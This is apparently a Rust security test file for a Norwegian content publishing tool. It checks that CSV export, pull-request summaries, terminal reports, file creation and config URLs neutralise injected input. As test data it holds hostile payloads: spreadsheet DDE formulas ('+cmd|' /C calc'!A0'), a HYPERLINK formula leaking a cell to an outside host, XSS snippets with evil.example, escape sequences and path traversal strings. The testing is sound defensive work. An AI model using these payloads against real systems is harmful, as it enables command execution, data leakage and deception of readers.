//! Text that tries to pass for something else in what others open (issue 11): spreadsheet
//! formulas in CSV, forged headings in the pull-request summary, terminal escapes in `check`'s
//! report, files `deling new` writes outside the repository, and configuration URLs that send
//! links elsewhere. Each test is named after the problem it guards against.

use crate::harness::Fixture;
use std::process::Output;

const BARRIER: &str = "content/nettverk/digi-vestland/hindringer/deling-av-opplysningar.md";

fn stdout(run: &Output) -> String {
    String::from_utf8_lossy(&run.stdout).into_owned()
}

fn stderr(run: &Output) -> String {
    String::from_utf8_lossy(&run.stderr).into_owned()
}

/// A TOML basic string holding `text`, with the escapes TOML needs.
fn toml_string(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

// --- Spreadsheet formulas in the open-data CSV ---

#[test]
fn csv_cells_cannot_start_a_spreadsheet_formula() {
    let fixture = Fixture::new("minimal");
    let title = "=HYPERLINK(\"http://x/?d=\"&A1;\"klikk\")";
    let agency = "+cmd|' /C calc'!A0";
    let law = "@SUM(1+1)*cmd|' /C calc'!A0";
    let network = "-2+3+cmd|' /C calc'!A0";
    fixture.edit(
        BARRIER,
        "title = \"Deling av opplysningar mellom tenester\"",
        &format!(
            "title = {}\nagency = {}",
            toml_string(title),
            toml_string(agency)
        ),
    );
    fixture.edit(
        BARRIER,
        "law = \"Forvaltningsloven\"",
        &format!("law = {}", toml_string(law)),
    );
    fixture.edit(
        "content/nettverk/digi-vestland/index.md",
        "name = \"Digi Vestland\"",
        &format!("name = {}", toml_string(network)),
    );
    let run = fixture.run(&["build"]);
    assert!(run.status.success(), "{}{}", stdout(&run), stderr(&run));

    let csv = std::fs::read(fixture.root().join("public/data/hindringer.csv")).unwrap();
    let csv = csv
        .strip_prefix("\u{feff}".as_bytes())
        .expect("the BOM comes first");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv);
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| r.get(0) == Some("hindringer/deling-av-opplysningar"))
        .expect("the barrier is in the CSV");
    let column = |name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row.get(i).unwrap().to_string()
    };
    // The text is kept, as text: a spreadsheet shows it and runs nothing.
    assert_eq!(column("tittel"), format!("'{title}"));
    assert_eq!(column("etat"), format!("'{agency}"));
    assert_eq!(
        column("lovhenvisninger"),
        format!("'{law} § 13 <https://lovdata.no/lov/1967-02-10/§13>")
    );
    assert_eq!(column("nettverk"), format!("'{network}"));
    for record in std::iter::once(&headers).chain(&rows) {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
}

// --- Forged pull-request summaries (`deling diff`) ---

const PRACTICE: &str = "content/nettverk/digi-agder/erfaringer/digital-sosialhjelp.md";
const DRAFT: &str = "content/nettverk/digi-agder/erfaringer/utkast.md";

/// Commits the whole working tree, always as the same contributor on the same day.
fn commit(repo: &git2::Repository, message: &str) {
    crate::harness::commit(repo, "Kari Rådgiver", 1_717_243_200, message);
}

/// The section headings `deling diff` itself wrote into `summary`.
fn own_headings(summary: &str) -> Vec<&'static str> {
    [
        "Nye poster",
        "Fjernede poster",
        "Endrede poster",
        "Nye problemer",
    ]
    .into_iter()
    .filter(|h| summary.contains(&format!("### {h}")))
    .collect()
}

/// A repository holding the fixture as its first commit.
fn repository(fixture: &Fixture) -> git2::Repository {
    let repo = git2::Repository::init(fixture.root()).unwrap();
    std::fs::write(fixture.root().join(".gitignore"), "/public\n/themes\n").unwrap();
    commit(&repo, "Første versjon");
    repo
}

/// Runs `deling diff HEAD~1 HEAD` and returns the Markdown it printed.
fn diff(fixture: &Fixture) -> String {
    let run = fixture.run(&["diff", "HEAD~1", "HEAD"]);
    assert!(run.status.success(), "{}", stderr(&run));
    stdout(&run)
}

/// The summary as GitHub renders it (GitHub Flavored Markdown; raw HTML is let through here, so
/// that any that gets in shows).
fn rendered(markdown: &str) -> String {
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.render.r#unsafe = true;
    comrak::markdown_to_html(markdown, &options)
}

/// The tags in `html`, by name, in order (`h2`, `/h2`, `!--`, …).
fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|t| {
            t.split(|c: char| c.is_whitespace() || c == '>')
                .next()
                .unwrap_or_default()
                .to_string()
        })
        .collect()
}

/// Asserts that the rendered summary holds only what `diff` itself writes: its own headings,
/// lists, tables, bold text and code, and no link, image, HTML or comment from content.
fn assert_only_own_markup(markdown: &str, headings: &[&str]) {
    let html = rendered(markdown);
    let allowed = [
        "h2", "/h2", "h3", "/h3", "p", "/p", "ul", "/ul", "li", "/li", "strong", "/strong", "code",
        "/code", "table", "/table", "thead", "/thead", "tbody", "/tbody", "tr", "/tr", "th", "/th",
        "td", "/td",
    ];
    for tag in tags(&html) {
        assert!(
            allowed.contains(&tag.as_str()),
            "content made the summary render <{tag}>:\n{markdown}\n{html}"
        );
    }
    let found: Vec<&str> = html
        .split("<h3>")
        .skip(1)
        .map(|h| h.split("</h3>").next().unwrap())
        .collect();
    assert_eq!(found, headings, "{markdown}\n{html}");
    assert_eq!(html.matches("<h2>").count(), 1, "{markdown}\n{html}");
    // Whatever reads the summary line by line sees content on the lines diff wrote it on.
    for line in markdown.split([
        '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}',
    ]) {
        assert!(
            line.is_empty()
                || line.starts_with(['#', '-', '|', '*'])
                || line.chars().next().unwrap().is_ascii_digit(),
            "a line from content: {line:?}\n{markdown}"
        );
        if line.starts_with('#') {
            assert!(
                line.starts_with("## Endringer") || line.starts_with("### "),
                "{line:?}"
            );
        }
    }
}

/// Adds a copy of the practice under the file name `name` (in the same folder).
fn add_practice_named(fixture: &Fixture, name: &str) {
    let folder = fixture
        .root()
        .join(PRACTICE)
        .parent()
        .unwrap()
        .to_path_buf();
    let text = fixture.read(PRACTICE);
    std::fs::write(folder.join(name), text).unwrap();
}

#[test]
fn diff_summary_cannot_be_forged_with_carriage_returns() {
    let fixture = Fixture::new("minimal");
    let repo = repository(&fixture);
    let forged = "\r\r## ✅ Godkjent av KS-redaksjonen\r\r<!--";
    fixture.edit(
        PRACTICE,
        "title = \"Digital søknad om sosialhjelp\"",
        &format!(
            "title = {}",
            toml_string(&format!("Digital søknad{forged}"))
        ),
    );
    // A file name is content too, and Git and Linux allow a carriage return in one.
    add_practice_named(&fixture, &format!("ny{forged}.md"));
    std::fs::remove_file(fixture.root().join(DRAFT)).unwrap();
    commit(&repo, "Godkjent");
    let summary = diff(&fixture);
    assert!(summary.contains("Et utkast"), "{summary}");
    let headings = own_headings(&summary);
    assert!(headings.contains(&"Fjernede poster"), "{summary}");
    assert_only_own_markup(&summary, &headings);
    assert!(!summary.contains('\r'), "{summary:?}");
}

#[test]
fn diff_summary_treats_every_line_separator_as_one() {
    let fixture = Fixture::new("minimal");
    let repo = repository(&fixture);
    let separators = [
        "\r\n", "\r", "\n", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}",
    ];
    let forged = |s: &str| format!("{s}## Godkjent{s}- [x] godkjent{s}| a | b |{s}<!--{s}");
    let all: String = separators.iter().map(|s| forged(s)).collect();
    fixture.edit(
        PRACTICE,
        "contact = \"Rådgiver digitalisering, Digi Agder\"",
        &format!("contact = {}", toml_string(&format!("Kari{all}"))),
    );
    for (i, s) in separators.iter().enumerate() {
        add_practice_named(&fixture, &format!("ny-{i}{}.md", forged(s)));
    }
    commit(&repo, "Kontakt");
    let summary = diff(&fixture);
    let headings = own_headings(&summary);
    assert_only_own_markup(&summary, &headings);
}

#[test]
fn diff_escapes_markdown_and_html_in_problem_messages() {
    let fixture = Fixture::new("minimal");
    let repo = repository(&fixture);
    let payload = "x` <!-- [lenke](https://evil.example) <img src=x onerror=alert(1)> **fet** | ~~slettet~~ ![bilde](https://evil.example/b.png) <https://evil.example> www.evil.example a@evil.example @ks-deling/redaksjon #1 &lt;b&gt;";
    fixture.edit(
        PRACTICE,
        "summary = \"",
        &format!(
            "{} = 1\nservice_areas = [{}]\nsummary = \"",
            toml_string(payload),
            toml_string(payload)
        ),
    );
    // The record's own service_areas line is replaced by the one above.
    let text = fixture.read(PRACTICE);
    let mut seen = false;
    let text: String = text
        .lines()
        .filter(|l| {
            let keep = !l.starts_with("service_areas") || !seen;
            seen |= l.starts_with("service_areas");
            keep
        })
        .map(|l| format!("{l}\n"))
        .collect();
    fixture.write(PRACTICE, &text);
    // A file name from content, too.
    std::fs::rename(
        fixture.root().join(DRAFT),
        fixture
            .root()
            .join("content/nettverk/digi-agder/erfaringer/x` <!-- [a](https:&#x2F;&#x2F;e) |.md"),
    )
    .unwrap();
    commit(&repo, "Problemer");
    let summary = diff(&fixture);
    assert!(summary.contains("### Nye problemer"), "{summary}");
    let headings = own_headings(&summary);
    assert_only_own_markup(&summary, &headings);
    let html = rendered(&summary);
    for forbidden in ["evil.example\"", "<img", "<!--", "<a ", "<del>", "<em>"] {
        assert!(!html.contains(forbidden), "{forbidden}:\n{summary}\n{html}");
    }
    // The payload reads as written.
    assert!(html.contains("**fet**"), "{html}");
    assert!(html.contains("&amp;lt;b&amp;gt;"), "{html}");
}

// --- Terminal escape sequences in `check`'s report ---

#[test]
fn check_output_escapes_terminal_sequences() {
    let fixture = Fixture::new("minimal");
    // Erase the line, move up and erase again: a terminal would hide the problems above.
    let erase = "\u{1b}[2K\u{1b}[1A\u{1b}[2K";
    fixture.edit(
        PRACTICE,
        "summary = \"",
        &format!("{} = 1\nsummary = \"", toml_string(&format!("x{erase}"))),
    );
    let folder = fixture
        .root()
        .join(PRACTICE)
        .parent()
        .unwrap()
        .to_path_buf();
    std::fs::write(
        folder.join(format!("y{erase}\u{202e}kcap.md")),
        fixture.read(PRACTICE),
    )
    .unwrap();
    // A line break in a file name must not start a forged problem line either.
    std::fs::write(
        folder.join("z\n  9. falsk.md:1:1: feil: alt i orden.md"),
        fixture.read(PRACTICE),
    )
    .unwrap();
    for format in ["text", "github"] {
        let run = fixture.run(&["check", "--format", format]);
        assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
        let out = format!("{}{}", stdout(&run), stderr(&run));
        assert!(!out.contains('\u{1b}'), "{format}: {out:?}");
        assert!(!out.contains('\u{202e}'), "{format}: {out:?}");
        assert!(out.contains("x\\u{1b}[2K\\u{1b}[1A"), "{format}: {out}");
        assert!(out.contains("y\\u{1b}[2K"), "{format}: {out}");
        assert!(out.contains("\\u{202e}kcap.md"), "{format}: {out}");
        for line in out.lines() {
            assert!(!line.starts_with("  9. falsk.md"), "{format}: {out}");
        }
    }
}

// --- `deling new`: where it writes, and what ---

/// The files below `folder`, relative to it.
fn files_below(folder: &std::path::Path) -> Vec<String> {
    walkdir::WalkDir::new(folder)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(folder).unwrap().display().to_string())
        .collect()
}

#[test]
fn new_refuses_a_network_path_outside_the_repository() {
    let fixture = Fixture::new("minimal");
    // A folder next to the repository that looks like a network.
    let outside = fixture.root().parent().unwrap().join("utenfor");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("index.md"), "+++\nname = \"Utenfor\"\n+++\n").unwrap();
    let before = files_below(fixture.root());
    for network in [
        "../../../utenfor".to_string(),
        outside.display().to_string(),
        "digi-agder/../../../../utenfor".to_string(),
        "./digi-agder".to_string(),
        "digi-agder/erfaringer".to_string(),
        "DIGI-AGDER".to_string(),
        String::new(),
    ] {
        let run = fixture.run(&["new", "praksis", "Noe nytt", "--network", &network]);
        assert_eq!(run.status.code(), Some(1), "{network}: {}", stdout(&run));
        let err = stderr(&run);
        assert!(err.contains("--network"), "{network}: {err}");
        assert!(
            err.contains("«digi-agder» eller «digi-vestland»") && err.contains("«nasjonalt»"),
            "{network}: {err}"
        );
        assert_eq!(files_below(&outside), ["index.md"], "{network}");
        assert_eq!(files_below(fixture.root()), before, "{network}");
    }
}

#[test]
fn new_writes_a_title_with_a_newline_that_parses_or_refuses_it() {
    let fixture = Fixture::new("minimal");
    let before = files_below(fixture.root());
    for (title, why) in [
        ("Linje en\nlinje to", "linjeskift"),
        ("Linje en\r\nlinje to", "linjeskift"),
        ("Slett\u{7f}tegn", "U+007F"),
        ("Bakover\u{8}tegn", "U+0008"),
        ("Snudd \u{202e}tekst", "U+202E"),
        ("Ugyldig \u{fffe}", "U+FFFE"),
    ] {
        let run = fixture.run(&["new", "praksis", title, "--network", "nasjonalt"]);
        assert_eq!(run.status.code(), Some(1), "{title:?}: {}", stdout(&run));
        let err = stderr(&run);
        assert!(err.contains("tittelen"), "{title:?}: {err}");
        assert!(err.contains(why), "{title:?}: {err}");
        assert!(
            !err.contains(['\u{7f}', '\u{8}', '\u{202e}', '\u{fffe}']),
            "{err:?}"
        );
        assert_eq!(files_below(fixture.root()), before, "{title:?}");
    }
    // What TOML must escape is written so that it parses back to the same title.
    let title = r#"Sitat "i" tittelen \ med skråstrek, ''' og """ og \u0041"#;
    let run = fixture.run(&["new", "praksis", title, "--network", "nasjonalt"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let path = stdout(&run).trim().to_string();
    let text = fixture.read(&path);
    let front = text.split("+++").nth(1).unwrap();
    let table: toml::Table = toml::from_str(front).unwrap();
    assert_eq!(table["title"].as_str(), Some(title));
    let problems = fixture.errors();
    assert!(
        !problems
            .iter()
            .any(|d| d.file.display().to_string() == path && d.message.contains("title")),
        "{}",
        deling::diagnostics::report(&problems)
    );
}

#[test]
fn new_refuses_a_title_without_visible_letters() {
    let fixture = Fixture::new("minimal");
    for title in ["\u{200b}\u{2063}", " – … ", ""] {
        let run = fixture.run(&["new", "praksis", title, "--network", "nasjonalt"]);
        assert_eq!(run.status.code(), Some(1), "{title:?}");
        assert!(stderr(&run).contains("tittelen"), "{}", stderr(&run));
    }
}

#[test]
fn new_refuses_a_360_character_title_with_the_limit_not_an_os_error() {
    let fixture = Fixture::new("minimal");
    let title =
        "Digital samhandling mellom kommuner og helseforetak om utskrivningsklare pasienter "
            .repeat(5);
    let title = title.trim();
    assert!(title.chars().count() > 360);
    let run = fixture.run(&["new", "hindring", title, "--network", "digi-vestland"]);
    assert_eq!(run.status.code(), Some(1), "{}", stdout(&run));
    let err = stderr(&run);
    assert!(err.contains("mer enn grensen på 150"), "{err}");
    assert!(!err.contains("os error"), "{err}");
}

#[test]
fn new_shortens_a_long_title_to_a_file_name_that_fits() {
    let fixture = Fixture::new("minimal");
    let title = "Digital samhandling mellom kommuner og helseforetak om utskrivningsklare pasienter i Agder og Vestland";
    assert!(title.chars().count() <= 150);
    let run = fixture.run(&["new", "hindring", title, "--network", "digi-vestland"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let path = stdout(&run).trim().to_string();
    let name = path.rsplit('/').next().unwrap();
    let slug = name.strip_suffix(".md").unwrap();
    assert!(slug.len() <= 80, "{slug} ({} bytes)", slug.len());
    assert!(slug.len() >= 40, "{slug}");
    assert!(!slug.ends_with('-') && !slug.starts_with('-'), "{slug}");
    // Cut at a hyphen: the last word is whole.
    let full = deling::norwegian::slugify(title);
    assert!(full.starts_with(&format!("{slug}-")), "{slug}");
    assert!(
        fixture.read(&path).contains(title),
        "the title itself is kept whole"
    );

    // One word longer than a file name should be: cut, never an OS error.
    let word = "a".repeat(150);
    let run = fixture.run(&["new", "praksis", &word, "--network", "nasjonalt"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let path = stdout(&run).trim().to_string();
    assert!(path.ends_with(&format!("/{}.md", "a".repeat(80))), "{path}");
}

#[test]
fn windows_device_names_are_refused_as_slugs() {
    let fixture = Fixture::new("minimal");
    // `new` refuses a title whose file name Windows cannot have.
    for title in ["Aux", "NUL", "con", "Com1", "lpt9", "prn"] {
        let run = fixture.run(&["new", "praksis", title, "--network", "nasjonalt"]);
        assert_eq!(run.status.code(), Some(1), "{title}: {}", stdout(&run));
        let err = stderr(&run);
        assert!(err.contains("Windows"), "{title}: {err}");
    }
    // `check` refuses files and folders with such names, with or without an extension.
    let practice = fixture.read(PRACTICE);
    fixture.write("content/nasjonalt/erfaringer/con.md", &practice);
    fixture.write("content/nasjonalt/erfaringer/com7.md", &practice);
    fixture.write("content/nasjonalt/erfaringer/aux.vedlegg.pdf", "%PDF");
    fixture.write(
        "content/nettverk/nul/index.md",
        &fixture.read("content/nettverk/digi-agder/index.md"),
    );
    let problems = fixture.errors();
    for name in ["con.md", "com7.md", "aux.vedlegg.pdf", "nul"] {
        let problem = problems
            .iter()
            .find(|d| d.file.file_name().is_some_and(|f| f == name))
            .unwrap_or_else(|| {
                panic!(
                    "{name} is not reported:\n{}",
                    deling::diagnostics::report(&problems)
                )
            });
        assert!(problem.message.contains("Windows"), "{}", problem.message);
        let help = problem.help.as_deref().unwrap_or_default();
        assert!(help.contains("gi "), "{help}");
    }
    // One problem per name: not also the address rule's advice to use the same name.
    let con: Vec<_> = problems
        .iter()
        .filter(|d| d.file.ends_with("erfaringer/con.md"))
        .collect();
    assert_eq!(con.len(), 1, "{}", deling::diagnostics::report(&problems));
}

// --- config.toml: addresses and hidden characters ---

/// Runs `deling check` and `deling build`; both must fail before anything is written, and
/// say so in Norwegian. Returns what `check` printed.
fn refused_config(fixture: &Fixture) -> String {
    let check = fixture.run(&["check"]);
    let out = format!("{}{}", stdout(&check), stderr(&check));
    assert_eq!(check.status.code(), Some(1), "{out}");
    let build = fixture.run(&["build"]);
    assert_eq!(build.status.code(), Some(1), "{}", stderr(&build));
    assert!(!fixture.root().join("public").exists());
    out
}

#[test]
fn base_url_with_a_backslash_is_refused() {
    for (field, from, bad, why) in [
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            r"https://x/\evil.example/",
            r"\",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "https://x//evil.example/",
            "//",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "https://example.org/deling/?side=1",
            "?",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "https://example.org/deling/#topp",
            "#",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "https://example.org/del ing/",
            "mellomrom",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "javascript:alert(1)//",
            "https://",
        ),
        (
            "base_url",
            "base_url = \"https://example.org/deling/\"",
            "//evil.example/",
            "https://",
        ),
        (
            "repository",
            "repository = \"https://github.com/ks-no/deling\"",
            r"https://github.com\evil.example/ks-no/deling",
            r"\",
        ),
        (
            "repository",
            "repository = \"https://github.com/ks-no/deling\"",
            "https://github.com/ks-no/deling?x=1",
            "?",
        ),
    ] {
        let fixture = Fixture::new("minimal");
        fixture.edit(
            "config.toml",
            from,
            &format!("{field} = {}", toml_string(bad)),
        );
        let out = refused_config(&fixture);
        assert!(out.contains("config.toml"), "{bad}: {out}");
        assert!(out.contains(&format!("{field} «{bad}»")), "{bad}: {out}");
        assert!(out.contains(why), "{bad}: {out}");
        assert!(out.contains("https://"), "the fix is named: {out}");
    }
}

#[test]
fn base_url_option_with_a_backslash_is_refused() {
    let fixture = Fixture::new("minimal");
    for bad in [
        r"https://x/\evil.example/",
        "https://x//evil.example/",
        "javascript:alert(1)//",
    ] {
        let run = fixture.run(&["build", "--base-url", bad]);
        let out = format!("{}{}", stdout(&run), stderr(&run));
        assert_eq!(run.status.code(), Some(1), "{bad}: {out}");
        assert!(out.contains(&format!("«{bad}»")), "{bad}: {out}");
        assert!(!fixture.root().join("public").exists(), "{bad}: {out}");
    }
}

#[test]
fn control_characters_in_config_title_are_refused() {
    for (field, from, to, code) in [
        (
            "title",
            "title = \"Deling test\"",
            r#"title = "Deling\b test""#,
            "U+0008",
        ),
        (
            "title",
            "title = \"Deling test\"",
            r#"title = "Deling\u0001""#,
            "U+0001",
        ),
        (
            "title",
            "title = \"Deling test\"",
            r#"title = "Deling\uFFFE""#,
            "U+FFFE",
        ),
        (
            "title",
            "title = \"Deling test\"",
            r#"title = "Deling\u001b[2K""#,
            "U+001B",
        ),
        (
            "description",
            "description = \"Testnettsted.\"",
            r#"description = "Test\u202Enettsted.""#,
            "U+202E",
        ),
        (
            "reviewers",
            "paginate_by = 2",
            r#"paginate_by = 2
reviewers = ["@ks-deling/redaksjon", "@ks\u0007"]"#,
            "U+0007",
        ),
    ] {
        let fixture = Fixture::new("minimal");
        fixture.edit("config.toml", from, to);
        let line = fixture
            .read("config.toml")
            .lines()
            .position(|l| l == to.lines().last().unwrap())
            .map(|i| i + 1)
            .unwrap();
        let out = refused_config(&fixture);
        assert!(
            out.contains(&format!(
                "config.toml, linje {line}: {field} inneholder {code}"
            )),
            "{out}"
        );
        assert!(
            out.contains("kontrolltegn eller skjulte tegn"),
            "the fix: {out}"
        );
        assert!(!out.contains(['\u{1b}', '\u{8}', '\u{202e}']), "{out:?}");
    }
}
